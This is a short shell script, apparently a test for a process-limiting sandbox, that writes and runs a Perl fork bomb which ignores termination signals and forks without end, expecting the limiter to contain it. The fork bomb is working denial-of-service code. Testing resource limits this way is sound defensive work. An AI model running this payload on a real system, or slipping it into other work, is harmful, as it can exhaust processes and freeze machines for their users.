#!/bin/sh
# A fork bomb.
. "$(dirname "$0")/limit_lib.sh" <<'AGENT'
cat >/tmp/bomb.pl <<'PERL'
$SIG{$_} = 'IGNORE' for qw(TERM INT HUP CHLD); while (1) { fork; }
PERL
perl /tmp/bomb.pl
AGENT
limited processes
